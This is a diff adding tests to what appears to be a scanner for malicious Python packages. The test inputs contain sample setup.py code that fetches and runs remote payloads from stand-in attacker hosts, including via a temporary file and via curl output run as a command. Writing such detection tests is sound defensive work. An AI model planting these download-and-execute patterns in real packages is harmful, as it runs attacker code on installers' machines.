@@ -211,3 +211,26 @@ def test_identity_in_a_dns_name_held_in_a_variable_is_exfiltration_and_a_caller_
     assert ("dns-exfiltration", "critical", 4) in _rules("setup.py", beacon)
     helper = 'import socket\ndef srv(domain):\n    name = "_ldap._tcp." + domain\n    return socket.getaddrinfo(name, 389)\n'
     assert not _rules("pkg/dnsutil.py", helper)
+
+
+def test_code_written_to_a_temporary_file_is_judged_as_code() -> None:
+    source = (
+        "from tempfile import NamedTemporaryFile\n"
+        "import os, sys\n"
+        "tmp = NamedTemporaryFile(delete=False)\n"
+        'tmp.write(b"from urllib.request import urlopen; exec(urlopen(\'https://p.attacker.invalid/raw\').read())")\n'
+        "tmp.close()\n"
+        'os.system(f"start {sys.executable} {tmp.name}")\n'
+    )
+    assert ("download-and-execute", "critical", 4) in _rules("setup.py", source)
+    generated = 'def gen(p):\n    with open(p, "w") as fh:\n        fh.write("import os\\nROOT = os.path.dirname(__file__)\\n__version__ = \'1\'\\n")\n'
+    assert not _rules("setup.py", generated)
+
+
+def test_the_output_of_a_downloader_command_run_as_a_command_is_download_and_execute() -> None:
+    source = (
+        "import subprocess\n"
+        "banner = subprocess.getoutput('curl http://stage.attacker.invalid/p.html')\n"
+        "subprocess.getoutput(str(banner))\n"
+    )
+    assert ("download-and-execute", "critical", 3) in _rules("setup.py", source)
